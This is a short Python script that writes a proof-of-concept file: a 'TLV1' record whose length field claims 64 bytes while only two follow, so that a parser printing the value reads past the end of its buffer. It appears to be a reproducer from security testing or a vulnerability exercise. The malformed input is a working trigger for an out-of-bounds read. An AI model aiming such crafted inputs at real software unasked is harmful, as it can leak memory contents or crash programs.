"""Writes the PoC: a bytes record whose length field (64) is larger than what follows (2 bytes),
so that printing its value reads past the end of the buffer holding the file."""

import sys

data = b"TLV1" + b"\x01\x00\x40" + b"AB"
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
